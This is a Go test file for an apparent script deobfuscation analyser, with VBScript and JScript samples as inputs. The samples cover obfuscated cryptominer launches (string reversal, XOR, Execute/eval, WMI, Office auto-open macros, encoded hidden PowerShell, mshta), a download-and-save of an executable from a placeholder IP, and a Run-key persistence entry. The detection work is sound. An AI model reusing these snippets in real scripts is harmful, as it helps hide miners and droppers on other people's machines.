package script

import (
	"encoding/base64"
	"strings"
	"testing"
)

func TestVBScriptValues(t *testing.T) {
	for _, c := range []struct{ name, src, want string }{
		{"run", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"svc.exe -o pool.example.org:3333 -u WALLET -k\", 0, False", miner},
		{"one line", `CreateObject("WScript.Shell").Run "svc.exe -o pool.example.org:3333 -u WALLET -k",0`, miner},
		{"brackets", `CreateObject("WScript.Shell").Run("svc.exe -o pool.example.org:3333 -u WALLET -k")`, miner},
		{"spaced bracket", "Set s = CreateObject(\"WScript.Shell\")\ns.Run (\"svc.exe -o pool.example.org\" & \":3333 -u WALLET -k\"), 0", miner},
		{"exec", "Set s = CreateObject(\"WScript.Shell\")\nSet e = s.Exec(\"svc.exe -o pool.example.org:3333 -u WALLET -k\")", miner},
		{"quotes", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"\"\"c:\\a b\\svc.exe\"\" -k\"", `"c:\a b\svc.exe" -k`},
		{"chr 34", "Set s = CreateObject(\"WScript.Shell\")\ns.Run Chr(34) & \"c:\\a b\\svc.exe\" & Chr(34) & \" -k\"", `"c:\a b\svc.exe" -k`},
		{"const", "Const POOL = \"pool.example.org:3333\", USER = \"WALLET\"\nSet s = WScript.CreateObject(\"WScript.Shell\")\ns.Run \"svc.exe -o \" & POOL & \" -u \" & USER & \" -k\"", miner},
		{"goes on", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"svc.exe -o pool.example.org:3333\" & _\r\n  \" -u WALLET -k\", 0", miner},
		{"strreverse", `CreateObject(StrReverse("llehS.tpircSW")).Run StrReverse("k- TELLAW u- 3333:gro.elpmaxe.loop o- exe.cvs")`, miner},
		{"replace", `CreateObject("WScript.Shell").Run Replace("svc#exe -o pool#example#org:3333 -u WALLET -k", "#", ".")`, miner},
		{"split join", "a = Split(\"svc.exe|-o|pool.example.org:3333|-u|WALLET|-k\", \"|\")\nCreateObject(\"WScript.Shell\").Run Join(a, \" \")", miner},
		{"array loop", "a = Array(115, 118, 99)\nFor Each c In a\n  x = x & Chr(c)\nNext\nCreateObject(\"WScript.Shell\").Run x & \".exe -o pool.example.org:3333 -u WALLET -k\"", miner},
		{"for mid", "s = \"73:76:63\"\nFor i = 1 To Len(s) Step 3\n  x = x & Chr(\"&H\" & Mid(s, i, 2))\nNext\nCreateObject(\"WScript.Shell\").Run x & \".exe -o pool.example.org:3333 -u WALLET -k\"", miner},
		{"function", "Function D(s)\n  D = Replace(s, \"~\", \"\")\nEnd Function\nCreateObject(\"WScript.Shell\").Run D(\"svc~.exe -o po~ol.example.org:3333 -u WAL~LET -k\")", miner},
		{"function xor", "Function D(s, k)\n  Dim i, r\n  For i = 1 To Len(s)\n    r = r & Chr(Asc(Mid(s, i, 1)) Xor k)\n  Next\n  D = r\nEnd Function\nCreateObject(\"WScript.Shell\").Run D(\"rwb\", 1) & \".exe -o pool.example.org:3333 -u WALLET -k\"", miner},
		{"sub", "Sub Go(p)\n  Dim sh : Set sh = CreateObject(\"WScript.Shell\")\n  sh.Run \"svc.exe -o \" & p & \" -u WALLET -k\"\nEnd Sub\nGo \"pool.example.org:3333\"", miner},
		{"call", "Sub Go(p)\n CreateObject(\"WScript.Shell\").Run \"svc.exe -o \" & p & \" -u WALLET -k\"\nEnd Sub\nCall Go(\"pool.example.org:3333\")", miner},
		{"execute", "Execute \"CreateObject(\"\"WScript.Shell\"\").Run \"\"svc.exe -o pool.example.org:3333 -u WALLET -k\"\"\"", miner},
		{"executeglobal chr", "x = Chr(83) & \"et q = CreateObject(\"\"WScript.Shell\"\")\" & vbCrLf & \"q.Run \"\"svc.exe -o pool.example.org:3333 -u WALLET -k\"\"\"\nExecuteGlobal x", miner},
		{"eval", `CreateObject("WScript.Shell").Run Eval("""svc.exe -o pool.example.org:3333"" & "" -u WALLET -k""")`, miner},
		{"with", "With CreateObject(\"WScript.Shell\")\n  .Run \"svc.exe -o pool.example.org:3333 -u WALLET -k\", 0\nEnd With", miner},
		{"both branches", "If fso.FileExists(\"x\") Then\n p = \"b\"\nElse\n p = \"pool.example.org:3333\"\nEnd If\nCreateObject(\"WScript.Shell\").Run \"svc.exe -o \" & p & \" -u WALLET -k\"", miner},
		{"if one line", "p = \"x\"\nIf q = 1 Then p = \"b\" Else p = \"pool.example.org:3333\"\nCreateObject(\"WScript.Shell\").Run \"svc.exe -o \" & p & \" -u WALLET -k\"", miner},
		{"select", "Select Case arch\nCase \"AMD64\"\n x = \"svc.exe\"\nCase Else\n x = \"b.exe\"\nEnd Select\nCreateObject(\"WScript.Shell\").Run x & \" -o pool.example.org:3333 -u WALLET -k\"", miner},
		{"do loop", "i = 0\nDo While i < 3\n x = x & Mid(\"svc\", i + 1, 1)\n i = i + 1\nLoop\nCreateObject(\"WScript.Shell\").Run x & \".exe -o pool.example.org:3333 -u WALLET -k\"", miner},
		{"wmi", "Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\nr = w.Create(\"svc.exe -o pool.example.org:3333 -u WALLET -k\", Null, Null, p)", miner},
		{"wmi get", "Set w = GetObject(\"winmgmts:\")\nSet p = w.Get(\"Win32_Process\")\np.Create \"svc.exe -o pool.example.org:3333 -u WALLET -k\", Null, Null, i", miner},
		{"shellexecute", "CreateObject(\"Shell.Application\").ShellExecute \"svc.exe\", \"-o pool.example.org:3333 -u WALLET -k\", \"\", \"runas\", 0", miner},
		{"vba shell", "Sub AutoOpen()\n  Dim p As String\n  p = \"svc.exe -o pool.example.org\" & \":3333\"\n  Shell p & \" -u WALLET -k\", vbHide\nEnd Sub", miner},
		{"vba call shell", "Private Sub Document_Open()\nCall Shell(\"svc.exe -o pool.example.org:3333 -u WALLET -k\", 0)\nEnd Sub", miner},
		{"vba mid$", "Sub x()\nShell Mid$(\"..svc.exe -o pool.example.org:3333 -u WALLET -k\", 3)\nEnd Sub", miner},
		{"environment", "Set s = CreateObject(\"WScript.Shell\")\na = s.ExpandEnvironmentStrings(\"%APPDATA%\")\ns.Run a & \"\\svc.exe -k\"", `%APPDATA%\svc.exe -k`},
		{"http", "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://192.0.2.7/\" & \"a.exe\", False\nh.Send", "msxml2.xmlhttp.Open GET http://192.0.2.7/a.exe"},
		{"stream", "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.open \"GET\", \"http://192.0.2.7/a.exe\", False\nh.send\nSet b = CreateObject(\"ADODB.Stream\")\nb.Open\nb.Write h.responseBody\nb.SaveToFile \"c:\\a.exe\", 2", "ADODB.Stream.SaveToFile c:\\a.exe http://192.0.2.7/a.exe"},
		{"regwrite", "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Up\", \"c:\\svc.exe\", \"REG_SZ\"", "WScript.Shell.regwrite HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Up c:\\svc.exe REG_SZ"},
		{"shortcut", "Set s = CreateObject(\"WScript.Shell\")\nSet l = s.CreateShortcut(\"c:\\x.lnk\")\nl.TargetPath = \"svc.exe\"\nl.Arguments = \"-o pool.example.org:3333 -u WALLET -k\"\nl.Save", miner},
		{"powershell", "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -enc " + utf16base64("iex ('svc.exe -o pool.example.org:3333 -u '+'WALLET -k')") + "\", 0", miner},
		{"powershell -c", `CreateObject("WScript.Shell").Run "powershell.exe -c ""& ('svc'+'.exe') -o pool.example.org:3333 -u WALLET -k""", 0`, miner},
		{"unescape", `CreateObject("WScript.Shell").Run unescape("svc.exe%20-o%20pool.example.org:3333 -u WALLET -k")`, miner},
		{"on error", "On Error Resume Next\nOption Explicit\nDim s : Set s = CreateObject(\"WScript.Shell\") : s.Run \"svc.exe -o pool.example.org:3333 -u WALLET -k\"", miner},
		{"redim", "Dim a()\nReDim a(2)\na(0) = \"svc.exe\"\na(1) = \"-o\"\na(2) = \"pool.example.org:3333 -u WALLET -k\"\nCreateObject(\"WScript.Shell\").Run Join(a)", miner},
		{"unknown shell", "Sub go(sh)\nsh.Run \"svc.exe -o pool.example.org:3333 -u WALLET -k\", 0\nEnd Sub", miner},
	} {
		t.Run(c.name, func(t *testing.T) { wants(t, c.src, VBScript, c.want) })
	}
}

func TestVBScriptDocuments(t *testing.T) {
	for _, c := range []struct{ name, src, file, text string }{
		{"textstream", "Set f = CreateObject(\"Scripting.FileSystemObject\")\nSet o = f.CreateTextFile(\"c:\\a.bat\", True)\no.WriteLine \"cd %TEMP%\"\no.WriteLine \"svc.exe -k\"\no.Close", `c:\a.bat`, "cd %TEMP%\nsvc.exe -k\n"},
		{"base64", "Set x = CreateObject(\"MSXML2.DOMDocument\").createElement(\"b\")\nx.DataType = \"bin.base64\"\nx.Text = \"" + base64.StdEncoding.EncodeToString([]byte("svc.exe -k")) + "\"\nSet s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write x.nodeTypedValue\ns.SaveToFile \"c:\\a.bat\", 2", `c:\a.bat`, "svc.exe -k"},
	} {
		t.Run(c.name, func(t *testing.T) {
			tr := Follow([]byte(c.src), VBScript)
			for _, d := range tr.Documents {
				if d.Name == c.file && d.Text.String() == c.text {
					return
				}
			}
			t.Errorf("%s: no such file among %v", c.src, tr.Documents)
		})
	}
}

func TestJScriptValues(t *testing.T) {
	for _, c := range []struct{ name, src, want string }{
		{"run", `var s = new ActiveXObject("WScript.Shell"); s.Run("svc.exe -o pool.example.org:3333 -u WALLET -k", 0, false);`, miner},
		{"concat", "var p = 'pool.example.org';\nvar a = \"-o \" + p + ':' + 3333;\nWScript.CreateObject('WScript.Shell').Run('svc.exe ' + a + \" -u WALLET -k\")", miner},
		{"fromcharcode", `new ActiveXObject("WScript.Shell").Run(String.fromCharCode(115,118,99) + ".exe -o pool.example.org:3333 -u WALLET -k")`, miner},
		{"reverse", `var q = "k- TELLAW u- 3333:gro.elpmaxe.loop o- exe.cvs".split("").reverse().join(""); new ActiveXObject("WScript.Shell").Run(q)`, miner},
		{"replace", `var q = "svc#exe -o pool#example#org:3333 -u WALLET -k".replace(/#/g, "."); new ActiveXObject("WScript.Shell").Run(q)`, miner},
		{"split join", `new ActiveXObject("WScript.Shell").Run("svc#exe -o pool#example#org:3333 -u WALLET -k".split("#").join("."))`, miner},
		{"eval", `eval("new ActiveXObject('WScript.Shell').Run('svc.exe -o pool.example.org:3333 ' + '-u WALLET -k')")`, miner},
		{"unescape", `eval(unescape("new%20ActiveXObject%28%22WScript.Shell%22%29.Run%28%22svc.exe -o pool.example.org:3333 -u WALLET -k%22%29"))`, miner},
		{"escapes", `new ActiveXObject("WScript\x2eShell").Run("\x73\u0076c.exe -o pool.example.org:3333 -u WALLET -k")`, miner},
		{"bracket names", `var o = new ActiveXObject("WScript.Shell"); o["Ru" + "n"]("svc.exe -o pool.example.org:3333 -u WALLET -k")`, miner},
		{"function", `function d(s) { var r = ""; for (var i = 0; i < s.length; i++) { r += String.fromCharCode(s.charCodeAt(i) ^ 1); } return r; } new ActiveXObject("WScript.Shell").Run(d("rwb") + ".exe -o pool.example.org:3333 -u WALLET -k")`, miner},
		{"array table", `var _0 = ["WScript.Shell", "svc.exe", " -o pool.example.org:3333 -u WALLET -k"]; var f = function (i) { return _0[i - 1]; }; new ActiveXObject(f(1)).Run(f(2) + f(3))`, miner},
		{"for in", `var a = [115, 118, 99], s = ""; for (var i in a) s += String.fromCharCode(a[i]); new ActiveXObject("WScript.Shell").Run(s + ".exe -o pool.example.org:3333 -u WALLET -k")`, miner},
		{"hex parse", `var h = "737663", s = ""; for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16)); new ActiveXObject("WScript.Shell").Run(s + ".exe -o pool.example.org:3333 -u WALLET -k")`, miner},
		{"try", `try { x() } catch (e) { new ActiveXObject("WScript.Shell").Run("svc.exe -o pool.example.org:3333 -u WALLET -k") }`, miner},
		{"anonymous", `(function () { var sh = WScript.CreateObject("WScript.Shell"); sh.Run("svc.exe -o pool.example.org:3333 -u WALLET -k"); })();`, miner},
		{"choose", `var p = x ? "b" : "pool.example.org:3333"; new ActiveXObject("WScript.Shell").Run("svc.exe -o " + p + " -u WALLET -k")`, miner},
		{"object", `var c = { pool: "pool.example.org:3333", w: "WALLET" }; new ActiveXObject("WScript.Shell").Run("svc.exe -o " + c.pool + " -u " + c["w"] + " -k")`, miner},
		{"Function", `new Function("new ActiveXObject('WScript.Shell').Run('svc.exe -o pool.example.org:3333 -u WALLET -k')")()`, miner},
		{"template", "var p = 'pool.example.org'; new ActiveXObject('WScript.Shell').Run(`svc.exe -o ${p}:3333 -u WALLET -k`)", miner},
		{"getobject", `GetObject("winmgmts:").Get("Win32_Process").Create("svc.exe -o pool.example.org:3333 -u WALLET -k")`, miner},
		{"http", `var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "http://192.0.2.7/" + "a", false); h.send();`, "msxml2.xmlhttp.Open GET http://192.0.2.7/a"},
		{"mshta", `new ActiveXObject("WScript.Shell").Run("mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"svc.exe -o pool.example.org:3333 -u WALLET -k\",0)(window.close)")`, miner},
	} {
		t.Run(c.name, func(t *testing.T) { wants(t, c.src, JScript, c.want) })
	}
}

func TestHostNegatives(t *testing.T) {
	for name, c := range map[string]struct {
		l   Language
		src string
	}{
		"vb comment": {VBScript, "' s.Run \"svc.exe -o pool.example.org:3333\"\nRem CreateObject(\"WScript.Shell\").Run \"svc.exe\""},
		"vb text":    {VBScript, "x = \"svc.exe -o pool.example.org:3333\"\nIf False Then Shell x"},
		"js comment": {JScript, "// s.Run('svc.exe')\n/* new ActiveXObject('WScript.Shell').Run('svc.exe') */"},
		"js text":    {JScript, "var help = 'svc.exe -o pool.example.org:3333'; console.log(help)"},
		"js regexp":  {JScript, "var r = /svc.exe -o pool/; r.test('x')"},
	} {
		for _, l := range lines(Follow([]byte(c.src), c.l)) {
			if strings.HasPrefix(l, "svc.exe") {
				t.Errorf("%s: %q", name, l)
			}
		}
	}
}

func TestHostBounds(t *testing.T) {
	for name, c := range map[string]struct {
		l   Language
		src string
	}{
		"vb brackets":  {VBScript, "x = " + strings.Repeat("(", 50_000)},
		"vb ifs":       {VBScript, strings.Repeat("If x Then\n", 20_000)},
		"vb elseif":    {VBScript, "If x Then\n" + strings.Repeat("ElseIf y Then\na = 1\n", 5000)},
		"vb recursion": {VBScript, "Function f(x)\nf = f(x) & f(x)\nEnd Function\ny = f(1)"},
		"vb doubling":  {VBScript, "x = \"a\"\nDo While True\nx = x & x\nLoop"},
		"vb execute":   {VBScript, "x = \"Execute x\"\nExecute x"},
		"vb nots":      {VBScript, "x = " + strings.Repeat("Not ", 50_000) + "1"},
		"vb amps":      {VBScript, "x = a" + strings.Repeat(" & a", 50_000)},
		"js brackets":  {JScript, strings.Repeat("(", 50_000)},
		"js braces":    {JScript, strings.Repeat("{", 50_000)},
		"js squares":   {JScript, strings.Repeat("[", 50_000)},
		"js news":      {JScript, strings.Repeat("new ", 50_000)},
		"js functions": {JScript, strings.Repeat("function(){", 20_000)},
		"js choose":    {JScript, strings.Repeat("a?", 20_000)},
		"js assign":    {JScript, strings.Repeat("a=", 20_000)},
		"js nots":      {JScript, strings.Repeat("!", 50_000)},
		"js loop":      {JScript, "for(;;){ x += x }"},
		"js push":      {JScript, "var a = [1]; while (true) { a.push(a); a = a.concat(a) }"},
		"js eval":      {JScript, "var x = 'eval(x)'; eval(x)"},
		"js template":  {JScript, strings.Repeat("`${", 20_000)},
		"js arrows":    {JScript, strings.Repeat("(a)=>", 20_000)},
	} {
		t.Run(name, func(t *testing.T) { Follow([]byte(c.src), c.l) })
	}
}
